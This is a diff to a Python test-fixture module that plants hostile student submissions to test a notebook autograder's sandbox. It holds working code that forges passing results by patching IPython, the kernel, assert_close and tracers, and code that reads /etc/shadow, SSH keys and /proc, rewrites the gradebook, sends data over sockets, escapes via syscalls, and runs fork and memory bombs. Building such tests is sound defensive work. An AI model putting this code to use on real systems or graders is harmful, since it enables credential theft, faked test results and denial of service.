@@ -17,6 +17,8 @@ from __future__ import annotations
 
 import copy
 import textwrap
+
+import nbformat
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -316,12 +318,30 @@ def reference_bodies(root: Path = ROOT) -> dict[str, str]:
 class Hostile:
     submission: Submission
     what: str                       # the problem, as the report names it
+    group: str = "broken"           # broken | runaway | forgery | escape | resource | honest
     twin: str | None = None         # an honest student whose per-cell scores this one must equal ("gains nothing")
     fails: frozenset[str] | None = None  # or: exactly these autograded cells score zero (all others full)
+    at_most: str | None = None      # or: at most its twin's score on every cell (it may hurt only itself)
     preflight: str | None = None    # the pre-flight problem kind this submission must raise (None: no problem)
     expect: str = ""                # how the report words the expectation (when not "same as its twin")
+    payload: str = ""               # text its attack prints, in the autograded record: proof that it ran
 
-    # Neither twin nor fails: an honest planted mistake, which must lose points on its own function's cells only.
+    # Neither twin, fails nor at_most: an honest planted mistake, which must lose points on its own function's
+    # cells only.
+
+
+@dataclass(frozen=True)
+class Context:
+    """Where the attacks look for secrets: the course's own path and a planted home, sockets listening on this
+    machine, a marker for processes that try to outlive grading (every run gets fresh values)."""
+
+    course: str = "/nonexistent/course"
+    home: str = "/nonexistent/home"
+    tcp_port: int = 9
+    udp_port: int = 9
+    unix_path: str = "/nonexistent/instructor.sock"
+    marker: str = "4242.000000001"
+    honest: str = "honest_canary"
 
 
 def _cell(gid: str):
@@ -372,32 +392,492 @@ def _after_function(function: str, code: str, root: Path, mutate=None) -> dict:
     return {"mutate": add}
 
 
-def hostile_cohort(root: Path = ROOT) -> list[Hostile]:
-    """Broken and hostile submissions, planted next to honest ones (their twins), for tests/test_hostile_submissions.py."""
+def _add_cells(after: str, cells: list[str]):
+    """Insert new code cells right after the cell with grade id ``after`` (cells a student added)."""
+    def mutate(nb):
+        i = next(i for i, c in enumerate(nb.cells) if grade_id(c) == after)
+        nb.cells[i + 1:i + 1] = [nbformat.v4.new_code_cell(c) for c in cells]
+    return mutate
+
+
+NO_SCALING = """
+scores = q @ k.transpose(1, 2)
+weights = scores.masked_fill(padding[:, None, :], float("-inf")).softmax(dim=-1)
+return weights @ v, weights
+"""
+
+# Forgeries: each rewrites what the grader sees of a wrong `attention` (its honest twin is `twin_attention_no_scaling`);
+# each prints its payload marker from the student's kernel, so the record shows it ran.
+FORGERIES = {
+    "forge_shell_run_cell": ("replaces IPython's run_cell on the shell class: later test cells report success", """
+from IPython.core.interactiveshell import InteractiveShell, ExecutionResult, ExecutionInfo
+_real_run_cell = InteractiveShell.run_cell
+def _run_cell(self, raw_cell, *args, **kwargs):
+    if "assert" in raw_cell:
+        result = ExecutionResult(ExecutionInfo(raw_cell, False, False, True, None))
+        result.execution_count = self.execution_count
+        return result
+    return _real_run_cell(self, raw_cell, *args, **kwargs)
+InteractiveShell.run_cell = _run_cell
+for _name in ("run_cell_async",):
+    async def _async(self, raw_cell, *args, **kwargs):
+        return _run_cell(self, raw_cell, *args, **kwargs)
+    setattr(InteractiveShell, _name, _async)
+print("PAYLOAD forge_shell_run_cell")
+"""),
+    "forge_kernel_do_execute": ("replaces the kernel's do_execute: cells with checks answer ok without running", """
+_kernel = get_ipython().kernel
+_real_do_execute = type(_kernel).do_execute
+async def _do_execute(self, code, silent, *args, **kwargs):
+    if "assert" in code:
+        return {"status": "ok", "execution_count": self.execution_count, "payload": [], "user_expressions": {}}
+    return await _real_do_execute(self, code, silent, *args, **kwargs)
+type(_kernel).do_execute = _do_execute
+print("PAYLOAD forge_kernel_do_execute")
+"""),
+    "forge_post_run_cell": ("a post_run_cell hook rewrites every cell's result to success", """
+def _all_good(result):
+    result.error_before_exec = None
+    result.error_in_exec = None
+get_ipython().events.register("post_run_cell", _all_good)
+get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
+print("PAYLOAD forge_post_run_cell")
+"""),
+    "forge_ast_transformer": ("an AST transformer rewrites asserts and assert_close calls away", """
+import ast
+class _NoChecks(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+    def visit_Call(self, node):
+        self.generic_visit(node)
+        return ast.Constant(None) if "assert_close" in ast.unparse(node.func) else node
+get_ipython().ast_transformers.append(_NoChecks())
+print("PAYLOAD forge_ast_transformer")
+"""),
+    "forge_settrace": ("sys.settrace on assert_close's code: actual = expected on entry", """
+import ctypes, sys, threading, torch
+_checked = torch.testing.assert_close.__code__
+def _tracer(frame, event, arg):
+    if event == "call" and frame.f_code is _checked:
+        frame.f_locals["actual"] = frame.f_locals["expected"]
+        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
+    return None
+sys.settrace(_tracer)
+threading.settrace(_tracer)
+print("PAYLOAD forge_settrace")
+"""),
+    "forge_setprofile": ("sys.setprofile on every call: a comparison's arguments made equal", """
+import ctypes, sys, torch
+def _profiler(frame, event, arg):
+    if event == "call" and {"actual", "expected"} <= set(frame.f_locals):
+        frame.f_locals["actual"] = frame.f_locals["expected"]
+        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
+sys.setprofile(_profiler)
+print("PAYLOAD forge_setprofile")
+"""),
+    "forge_checker_helpers": ("patches the checking machinery: assert_close's helpers, torch.equal, AssertionError", """
+import builtins, sys, torch
+_home = sys.modules[torch.testing.assert_close.__module__]
+for _name, _value in list(vars(_home).items()):
+    if callable(_value) and not _name.startswith("__"):
+        setattr(_home, _name, lambda *args, **kwargs: None)
+torch.testing.assert_close = lambda *args, **kwargs: None
+torch.equal = torch.allclose = lambda *args, **kwargs: True
+torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
+builtins.AssertionError = type("AssertionError", (Exception,), {})
+print("PAYLOAD forge_checker_helpers")
+"""),
+}
+
+
+def _forgery(key: str, root: Path) -> Hostile:
+    what, code = FORGERIES[key]
+    return Hostile(Submission(key, what, solved="all", bodies={"attention": NO_SCALING},
+                              **_after_function("attention", code, root)),
+                   what, group="forgery", twin="twin_attention_no_scaling", payload=f"PAYLOAD {key}")
+
+
+def forgeries_inside(root: Path) -> list[Hostile]:
+    """Attacks run from inside the graded functions, while the tests call them."""
+    frame_oracle = """
+import sys
+_seen = []
+_frame = sys._getframe(1)
+while _frame is not None:
+    _seen.append(_frame.f_code.co_name)
+    for _value in list(_frame.f_locals.values()):
+        if isinstance(_value, tuple) and len(_value) == 2 and all(hasattr(t, "shape") for t in _value):
+            print("PAYLOAD frame_oracle found", [tuple(t.shape) for t in _value], flush=True)
+            return _value
+    _frame = _frame.f_back
+print("PAYLOAD frame_oracle saw", _seen, flush=True)
+""" + NO_SCALING
+    leak = """
+import inspect, os, sys
+found = [repr(In) if "In" in globals() else ""]
+for path in os.listdir("."):
+    try:
+        found.append(open(path, errors="replace").read())
+    except OSError:
+        pass
+frame = sys._getframe()
+while frame is not None:
+    try:
+        found.append(inspect.getsource(frame))
+    except (OSError, TypeError):
+        pass
+    found.append(repr(frame.f_locals))
+    frame = frame.f_back
+print("PAYLOAD exception_leak", len(found), flush=True)
+raise AssertionError("".join(found)[:50000])
+"""
+    lying_tensor = """
+class _Agreeable(torch.Tensor):
+    def __eq__(self, other):
+        return torch.ones_like(torch.as_tensor(other), dtype=torch.bool).as_subclass(_Agreeable)
+    def __bool__(self):
+        return True
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq"):
+            return True
+        return super().__torch_function__(func, types, args, kwargs or {})
+print("PAYLOAD lie_tensor_subclass", flush=True)
+scores = q @ k.transpose(1, 2)
+weights = scores.masked_fill(padding[:, None, :], float("-inf")).softmax(dim=-1)
+return (weights @ v).as_subclass(_Agreeable), weights.as_subclass(_Agreeable)
+"""
+    fake_tokenizer = """
+class _FakeTokenizer:
+    __class__ = Tokenizer
+    def get_vocab_size(self):
+        return vocab_size
+    def token_to_id(self, token):
+        return {"[UNK]": 0, "[PAD]": 1}.get(token, 2)
+    def __eq__(self, other):
+        return True
+    def __getattr__(self, name):
+        return lambda *args, **kwargs: self
+print("PAYLOAD lie_fake_class", flush=True)
+return _FakeTokenizer()
+"""
+    lying_number = """
+class _Agree:
+    def __eq__(self, other):
+        return True
+    def __float__(self):
+        return 1.0
+    def __sub__(self, other):
+        return 0.0
+    __rsub__ = __sub__
+    def __abs__(self):
+        return 0.0
+    def __lt__(self, other):
+        return True
+print("PAYLOAD lie_eq_object", flush=True)
+return _Agree()
+"""
+    S = Submission
+    return [
+        Hostile(S("forge_frame_oracle", "attention reads the expected value from its caller's frame", solved="all",
+                  bodies={"attention": frame_oracle}), "reads the expected value from the caller's frame (sys._getframe)",
+                group="forgery", twin="twin_attention_no_scaling", payload="PAYLOAD frame_oracle"),
+        Hostile(S("forge_exception_leak", "attention raises its caller's source, history and files", solved="all",
+                  bodies={"attention": leak}),
+                "raises an exception carrying every frame's source, the history and the files it can read",
+                group="forgery", twin="twin_attention_blank", payload="PAYLOAD exception_leak"),
+        Hostile(S("lie_tensor_subclass", "attention returns a tensor subclass that agrees with everything",
+                  solved="all", bodies={"attention": lying_tensor}),
+                "a torch.Tensor subclass whose comparisons and __torch_function__ always agree",
+                group="forgery", twin="twin_attention_no_scaling", payload="PAYLOAD lie_tensor_subclass"),
+        Hostile(S("lie_fake_class", "train_bpe_tokenizer returns an object whose __class__ says Tokenizer",
+                  solved="all", bodies={"train_bpe_tokenizer": fake_tokenizer}),
+                "a fake tokenizer whose __class__ says Tokenizer", group="forgery", twin="twin_tokenizer_none",
+                payload="PAYLOAD lie_fake_class"),
+        Hostile(S("lie_eq_object", "accuracy returns an object equal to everything", solved="all",
+                  bodies={"accuracy": lying_number}),
+                "an object whose __eq__, __float__ and arithmetic always agree", group="forgery",
+                twin="twin_accuracy_none", payload="PAYLOAD lie_eq_object"),
+    ]
+
+
+ESCAPES = {
+    "escape_read_absolute": ("reads the instructor's files by absolute path", """
+for path in [COURSE + "/instructor_notes.txt", COURSE + "/assignments/transformers/transformers.ipynb",
+             COURSE + "/gradebook.db", COURSE + "/submitted/HONEST/transformers/transformers.ipynb",
+             COURSE + "/.grading-secret", HOME + "/.ssh/id_rsa", "/etc/shadow"]:
+    try:
+        print(path, open(path, errors="replace").read())
+    except OSError as error:
+        print(path, error)
+"""),
+    "escape_read_relative": ("walks up from its working folder and follows links it makes", """
+import os
+for top in ["..", "../..", "../../..", "../../../.."]:
+    for folder, _, files in os.walk(top):
+        for name in files:
+            try:
+                print(os.path.join(folder, name), open(os.path.join(folder, name), errors="replace").read()[:2000])
+            except OSError as error:
+                print(name, error)
+os.symlink(COURSE + "/instructor_notes.txt", "notes_link")
+os.symlink("../../../instructor_notes.txt", "notes_link2")
+for link in ["notes_link", "notes_link2"]:
+    try:
+        print(open(link).read())
+    except OSError as error:
+        print(link, error)
+"""),
+    "escape_proc": ("reads other processes through /proc", """
+import os
+for pid in ["1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
+    for what in ["environ", "cmdline", "root/" + COURSE.lstrip("/") + "/instructor_notes.txt", "cwd/../../.."]:
+        try:
+            data = open(f"/proc/{pid}/{what}", "rb").read() if not what.startswith("cwd") else os.listdir(f"/proc/{pid}/{what}")
+            print(pid, what, data)
+        except OSError as error:
+            print(pid, what, error)
+"""),
+    "escape_writes": ("writes outside its working folder, links for the grader, a FIFO", """
+import os
+for path in [COURSE + "/instructor_notes.txt", COURSE + "/pwned.txt", COURSE + "/assignments/transformers/transformers.ipynb",
+             COURSE + "/submitted/HONEST/transformers/transformers.ipynb", "../../../pwned.txt",
+             "../../../release/transformers/transformers.ipynb", HOME + "/.bashrc", "/usr/lib/pwned"]:
+    try:
+        with open(path, "w") as f:
+            f.write("pwned")
+        print("wrote", path)
+    except OSError as error:
+        print(path, error)
+try:
+    os.symlink(COURSE + "/assignments/transformers/transformers.ipynb", "transformers.ipynb")
+    os.mkfifo("fifo")
+except OSError as error:
+    print(error)
+"""),
+    "escape_gradebook": ("opens the gradebook with sqlite", """
+import sqlite3
+for path in [COURSE + "/gradebook.db", "../../../gradebook.db"]:
+    try:
+        db = sqlite3.connect(path)
+        db.execute("update grade set auto_score = max_score_gradecell")
+        db.commit()
+        print("updated", path)
+    except Exception as error:
+        print(path, error)
+"""),
+    "escape_outlive": ("forks, setsids and double-forks to outlive grading", """
+import os, subprocess, time
+subprocess.Popen(["sleep", "MARKER"], start_new_session=True)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        time.sleep(3)
+        try:
+            open(COURSE + "/late.txt", "w").write("pwned later")
+        finally:
+            os.execvp("sleep", ["sleep", "MARKER"])
+    os._exit(0)
+"""),
+    "escape_thread": ("a thread keeps patching the checks while the tests run", """
+import threading, time, torch
+def _keep_patching():
+    while True:
+        torch.testing.assert_close = lambda *args, **kwargs: None
+        torch.allclose = lambda *args, **kwargs: True
+        time.sleep(0.001)
+threading.Thread(target=_keep_patching, daemon=True).start()
+"""),
+    "escape_sockets": ("connects to this machine and the internet (TCP, UDP, Unix)", """
+import socket
+def attempt(what, action):
+    try:
+        action()
+        print(what, "sent")
+    except OSError as error:
+        print(what, error)
+attempt("tcp", lambda: socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2).sendall(b"LEAK"))
+def udp():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(b"LEAK", ("127.0.0.1", UDP_PORT))
+attempt("udp", udp)
+def unix():
+    s = socket.socket(socket.AF_UNIX)
+    s.connect(UNIX_PATH)
+    s.sendall(b"LEAK")
+attempt("unix", unix)
+attempt("internet", lambda: socket.create_connection(("1.1.1.1", 80), timeout=2))
+"""),
+    "escape_environment": ("reads the environment and the instructor's home", """
+import os, getpass
+print(dict(os.environ), getpass.getuser(), os.path.expanduser("~"))
+for folder in [os.path.expanduser("~"), HOME, HOME + "/.ssh"]:
+    try:
+        print(folder, os.listdir(folder))
+    except OSError as error:
+        print(folder, error)
+"""),
+    "escape_syscalls": ("unshare, mount, ptrace, setns, chroot through ctypes", """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+print("unshare", libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())
+print("mount", libc.mount(b"none", b"/usr", b"tmpfs", 0, None), ctypes.get_errno())
+print("ptrace", libc.ptrace(16, 1, None, None), ctypes.get_errno())
+for ns in ["mnt", "net", "user"]:
+    fd = os.open(f"/proc/1/ns/{ns}", os.O_RDONLY)
+    print("setns", ns, libc.setns(fd, 0), ctypes.get_errno())
+try:
+    os.chroot("/tmp")
+except OSError as error:
+    print("chroot", error)
+"""),
+    "escape_capture_tests": ("hooks and tracers to capture the test cells' code", """
+import sys
+def _print_cell(info):
+    print("NEXT CELL:", info.raw_cell)
+get_ipython().events.register("pre_run_cell", _print_cell)
+def _tracer(frame, event, arg):
+    if event == "call" and "ipykernel_" in frame.f_code.co_filename:
+        print("TRACE", frame.f_code.co_filename, frame.f_code.co_consts)
+    return None
+sys.settrace(_tracer)
+"""),
+}
+
+
+def _escape(key: str, context: Context, root: Path) -> Hostile:
+    what, code = ESCAPES[key]
+    code = (code.replace("COURSE", repr(context.course)).replace("HOME", repr(context.home))
+            .replace("HONEST", context.honest).replace("MARKER", context.marker)
+            .replace("TCP_PORT", str(context.tcp_port)).replace("UDP_PORT", str(context.udp_port))
+            .replace("UNIX_PATH", repr(context.unix_path)))
+    code += f'\nprint("PAYLOAD {key}")\n'
+    return Hostile(Submission(key, what, solved="all", bodies={"attention": NO_SCALING},
+                              **_after_function("attention", code, root)),
+                   what, group="escape", twin="twin_attention_no_scaling", payload=f"PAYLOAD {key}")
+
+
+def resources(root: Path, context: Context) -> list[Hostile]:
+    """Attacks on the machine's resources, after a full solution: they may cost their author, nobody else."""
+    S = Submission
+    memory = """
+import subprocess, sys
+code = "x = b'y' * (1200 << 20)\\nimport time\\ntime.sleep(5)"
+procs = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(6)]
+print("PAYLOAD resource_memory", [p.wait() for p in procs], flush=True)
+"""
+    disk = """
+written = 0
+for folder in [".", "/tmp", "/home/student", "/dev/shm"]:
+    for i in range(100):
+        try:
+            with open(f"{folder}/fill{i}", "wb") as f:
+                for _ in range(64):
+                    f.write(b"x" * (1 << 20))
+                    written += 1
+        except OSError:
+            break
+print("PAYLOAD resource_disk wrote", written, "MiB", flush=True)
+"""
+    flood = """
+import sys
+for _ in range(300):
+    sys.stdout.write("x" * (1 << 20))
+print("PAYLOAD resource_flood", flush=True)
+"""
+    bomb = """
+import os, time
+forked = 0
+try:
+    while forked < 5000:
+        if os.fork() == 0:
+            end = time.monotonic() + 20
+            while time.monotonic() < end:
+                pass
+            os._exit(0)
+        forked += 1
+except OSError:
+    pass
+print("PAYLOAD resource_fork_bomb", forked, flush=True)
+"""
+    everything = frozenset(autograded_cells(read(source_path(root))))
+    return [
+        Hostile(S("resource_memory", "full solution; six processes of 1.2 GB after masked_mean", solved="all",
+                  **_after_function("masked_mean", memory, root)),
+                "memory in many processes (7 GB under a 4 GiB cap for the whole sandbox)", group="resource",
+                at_most="twin_full", payload="PAYLOAD resource_memory"),
+        Hostile(S("resource_disk", "full solution; fills every writable folder after masked_mean", solved="all",
+                  **_after_function("masked_mean", disk, root)),
+                "fills every writable folder (the working copy, /tmp, HOME)", group="resource", at_most="twin_full",
+                payload="PAYLOAD resource_disk"),
+        Hostile(S("resource_flood", "full solution; prints 300 MB after accuracy", solved="all",
+                  **_after_function("accuracy", flood, root)),
+                "floods the output (300 MB)", group="resource", at_most="twin_full",
+                payload="PAYLOAD resource_flood"),
+        Hostile(S("resource_slow_drip", "full solution; 400 added cells that each sleep just under the cell limit",
+                  solved="all", mutate=_add_cells("masked_mean_solution", ["import time\ntime.sleep(3)"] * 400)),
+                "a slow drip: hundreds of added cells, each just under the per-cell limit", group="resource",
+                at_most="twin_full", expect="stopped at the submission's time budget; at most full points"),
+        Hostile(S("resource_fork_bomb", "full solution; a fork bomb of busy processes after embedding_parameters",
+                  solved="all", **_after_function("embedding_parameters", bomb, root)),
+                "a fork bomb of busy processes (graded beside honest students)", group="resource",
+                at_most="twin_full", payload="PAYLOAD resource_fork_bomb"),
+        Hostile(S("resource_stall", "full solution; a file that replaces the kernel's launcher and never answers",
+                  solved="all", extra={"ipykernel_launcher.py": "import time\ntime.sleep(3600)\n"}),
+                "a kernel that stalls before its first cell", group="resource", fails=everything,
+                expect="zero: stopped at the time budget, reported"),
+        Hostile(S("resource_links", "full solution; links to an instructor's key and the gradebook, a FIFO",
+                  solved="all", extra={"id_rsa": ("link", context.home + "/.ssh/id_rsa"),
+                                       "gradebook.db": ("link", context.course + "/gradebook.db"),
+                                       "pipe": ("fifo", "")}),
+                "a submission folder with symbolic links (to ~/.ssh and the gradebook) and a FIFO", group="resource",
+                twin="twin_full", preflight="unsafe file"),
+    ]
+
+
+def hostile_cohort(root: Path = ROOT, context: Context = Context()) -> list[Hostile]:
+    """Broken, runaway and hostile submissions, planted next to honest ones (their twins)."""
     root = Path(root)
     everything = frozenset(autograded_cells(read(source_path(root))))
-    no_scaling = next(p for p in WRONG if p.key == "no_scaling").code
     padded_length = next(p for p in WRONG if p.key == "mean_divides_by_padded_length").code
     threshold = next(p for p in WRONG if p.key == "accuracy_threshold_half").code
     plus_bias = next(p for p in WRONG if p.key == "embedding_plus_bias").code
     later = set().union(*(cells_of(f, root) for f in
                           ("accuracy", "train_bpe_tokenizer", "tokens_per_word", "embedding_parameters")))
     S = Submission
-    cohort = [
-        Hostile(S("twin_full", "every exercise solved", solved="all"), "honest: full solution", fails=frozenset(),
+    honest = [
+        Hostile(S("twin_full", "every exercise solved", solved="all"), "honest: full solution", group="honest",
+                fails=frozenset(), expect="full points"),
+        Hostile(S(context.honest, "every exercise solved (its work must reach nobody)", solved="all",
+                  bodies={"masked_mean": f"# {context.honest}\n" + body("masked_mean", root)}),
+                "honest: full solution, graded beside the attackers", group="honest", fails=frozenset(),
                 expect="full points"),
         Hostile(S("twin_attention_no_scaling", "attention without 1/sqrt(d_k)", solved="all",
-                  bodies={"attention": no_scaling}), "honest: attention without 1/sqrt(d_k)"),
+                  bodies={"attention": NO_SCALING}), "honest: attention without 1/sqrt(d_k)", group="honest"),
+        Hostile(S("twin_attention_blank", "attention left unfinished", solved="all",
+                  bodies={"attention": 'raise NotImplementedError("not done yet")'}),
+                "honest: attention left unfinished", group="honest", fails=frozenset(cells_of("attention", root)),
+                expect="zero on the attention tests"),
         Hostile(S("twin_mean_padded_length", "masked_mean / padded length", solved="all",
-                  bodies={"masked_mean": padded_length}), "honest: masked_mean divides by the padded length"),
+                  bodies={"masked_mean": padded_length}), "honest: masked_mean divides by the padded length",
+                group="honest"),
         Hostile(S("twin_accuracy_threshold_half", "accuracy thresholds at 0.5", solved="all",
-                  bodies={"accuracy": threshold}), "honest: accuracy thresholds at 0.5"),
+                  bodies={"accuracy": threshold}), "honest: accuracy thresholds at 0.5", group="honest"),
+        Hostile(S("twin_accuracy_none", "accuracy returns None", solved="all", bodies={"accuracy": "return None"}),
+                "honest: accuracy returns nothing", group="honest", fails=frozenset(cells_of("accuracy", root)),
+                expect="zero on the accuracy tests"),
+        Hostile(S("twin_tokenizer_none", "train_bpe_tokenizer returns None", solved="all",
+                  bodies={"train_bpe_tokenizer": "return None"}), "honest: the tokenizer function returns nothing",
+                group="honest", fails=frozenset(cells_of("train_bpe_tokenizer", root)),
+                expect="zero on the tokenizer tests"),
         Hostile(S("twin_embedding_plus_bias", "embedding + bias", solved="all", bodies={"embedding_parameters": plus_bias}),
-                "honest: embedding parameters with a bias"),
-        # ---- broken files
+                "honest: embedding parameters with a bias", group="honest"),
+    ]
+    broken = [
         Hostile(S("broken_not_json", raw=b'{"cells": [{"cell_type": "code", "source": "def attention(q, k'),
                 "not JSON (truncated file)", fails=everything, preflight="not JSON", expect="zero: nothing to grade"),
-        Hostile(S("broken_empty_file", raw=b""), "empty file", fails=everything, preflight="empty file", expect="zero: nothing to grade"),
+        Hostile(S("broken_empty_file", raw=b""), "empty file", fails=everything, preflight="empty file",
+                expect="zero: nothing to grade"),
         Hostile(S("broken_renamed", "full solution saved as 'transformers (1).ipynb'", solved="all",
                   filename="transformers (1).ipynb"), "notebook renamed", twin="twin_full",
                 preflight="renamed notebook"),
@@ -416,38 +896,40 @@ def hostile_cohort(root: Path = ROOT) -> list[Hostile]:
                 "a test cell's type changed to markdown", twin="twin_mean_padded_length",
                 preflight="changed cell type"),
         Hostile(S("broken_tests_edited_to_pass", "wrong attention; its test cells edited to `pass`", solved="all",
-                  bodies={"attention": no_scaling},
+                  bodies={"attention": NO_SCALING},
                   mutate=_mutate_sources(sorted(cells_of("attention", root)), "pass")),
                 "visible test cells edited to `pass`", twin="twin_attention_no_scaling",
                 preflight="edited test cell"),
-        # ---- runaway code
+        Hostile(S("broken_metadata_forged", "wrong attention; its solution cell relabelled as a test cell worth 50",
+                  solved="all", bodies={"attention": NO_SCALING},
+                  mutate=lambda nb: _cell("attention_solution")(nb).metadata.nbgrader.update(
+                      grade=True, solution=False, locked=True, points=50)),
+                "a solution cell's metadata forged into a test cell", twin="twin_attention_no_scaling",
+                preflight="changed cell metadata"),
+    ]
+    runaway = [
         Hostile(S("runaway_infinite_loop", "full solution; `while True: pass` after accuracy", solved="all",
                   **_after_function("accuracy", "while True:\n    pass", root)),
-                "an infinite loop (interrupted by the per-cell timeout)", twin="twin_full",
-                preflight="suspicious code"),
+                "an infinite loop (interrupted by the per-cell timeout)", group="runaway", twin="twin_full"),
         Hostile(S("runaway_memory_bomb", "full solution; allocates 20 GB after masked_mean", solved="all",
                   **_after_function("masked_mean", "_hog = [torch.ones(2 ** 27) for _ in range(40)]  # 512 MB each",
                                     root)),
-                "a memory bomb (MemoryError at the kernel's memory cap)", twin="twin_full"),
+                "a memory bomb (MemoryError at the kernel's memory cap)", group="runaway", twin="twin_full"),
         Hostile(S("runaway_kernel_exits", "full solution; os._exit(1) after accuracy", solved="all",
                   **_after_function("accuracy", "import os\nos._exit(1)", root)),
-                "the kernel kills itself (os._exit)", fails=frozenset(later), preflight="suspicious code",
+                "the kernel kills itself (os._exit)", group="runaway", fails=frozenset(later),
                 expect="cells before the exit keep their points; the later ones score zero"),
         Hostile(S("runaway_heavy_stderr", "full solution; 3 MB on stderr after attention", solved="all",
                   **_after_function("attention", "import sys\nfor _i in range(50_000):\n"
                                                  "    print('debug output line', _i, 'x' * 40, file=sys.stderr)",
                                     root)),
-                "heavy stderr output", twin="twin_full"),
-        Hostile(S("runaway_huge_output", "full solution; 8 MB printed after masked_mean", solved="all",
-                  **_after_function("masked_mean", "print('x' * 4_000_000)\nprint('\\n'.join(map(str, range(500_000))))",
-                                    root)),
-                "a multi-megabyte output", twin="twin_full"),
-        # ---- tampering with the checking machinery
+                "heavy stderr output", group="runaway", twin="twin_full"),
+    ]
+    tampering = [
         Hostile(S("tamper_assert_close", "wrong attention; torch.testing.assert_close replaced", solved="all",
-                  bodies={"attention": no_scaling},
+                  bodies={"attention": NO_SCALING},
                   **_after_function("attention", "torch.testing.assert_close = lambda *args, **kwargs: None", root)),
-                "redefines torch.testing.assert_close", twin="twin_attention_no_scaling",
-                preflight="suspicious code"),
+                "redefines torch.testing.assert_close", group="forgery", twin="twin_attention_no_scaling"),
         Hostile(S("tamper_allclose_eq", "wrong masked_mean; torch.allclose and Tensor.__eq__ replaced", solved="all",
                   bodies={"masked_mean": padded_length},
                   **_after_function("masked_mean",
@@ -455,8 +937,7 @@ def hostile_cohort(root: Path = ROOT) -> list[Hostile]:
                                     "torch.testing.assert_close = lambda *args, **kwargs: None\n"
                                     "torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)",
                                     root)),
-                "redefines torch.allclose, torch.Tensor.__eq__", twin="twin_mean_padded_length",
-                preflight="suspicious code"),
+                "redefines torch.allclose, torch.Tensor.__eq__", group="forgery", twin="twin_mean_padded_length"),
         Hostile(S("tamper_builtins", "wrong accuracy; builtins abs/isinstance and AssertionError replaced",
                   solved="all", bodies={"accuracy": threshold},
                   **_after_function("accuracy",
@@ -465,19 +946,19 @@ def hostile_cohort(root: Path = ROOT) -> list[Hostile]:
                                     "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
                                     "def isinstance(obj, cls):\n    return True\n"
                                     "class AssertionError(Exception):\n    pass", root)),
-                "redefines builtins (abs, isinstance) and AssertionError", twin="twin_accuracy_threshold_half",
-                preflight="suspicious code"),
+                "redefines builtins (abs, isinstance) and AssertionError", group="forgery",
+                twin="twin_accuracy_threshold_half"),
         Hostile(S("tamper_inside_function", "wrong attention that replaces assert_close every time it is called",
                   solved="all", bodies={"attention": "torch.testing.assert_close = lambda *args, **kwargs: None\n"
-                                                      + textwrap.dedent(no_scaling)}),
-                "patches assert_close from inside the graded function", fails=frozenset(cells_of("attention", root)),
-                preflight="suspicious code", expect="zero on every attention test (the patched checks do not count)"),
+                                                      + textwrap.dedent(NO_SCALING)}),
+                "patches assert_close from inside the graded function", group="forgery",
+                twin="twin_attention_no_scaling"),
         Hostile(S("tamper_custom_exc", "wrong embedding_parameters; IPython told to swallow every exception",
                   solved="all", bodies={"embedding_parameters": plus_bias},
                   **_after_function("embedding_parameters",
                                     "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)",
                                     root)),
-                "makes IPython swallow exceptions (set_custom_exc)", twin="twin_embedding_plus_bias",
-                preflight="suspicious code"),
+                "makes IPython swallow exceptions (set_custom_exc)", group="forgery", twin="twin_embedding_plus_bias"),
     ]
-    return cohort
+    return (honest + broken + runaway + tampering + [_forgery(k, root) for k in FORGERIES] + forgeries_inside(root)
+            + [_escape(k, context, root) for k in ESCAPES] + resources(root, context))
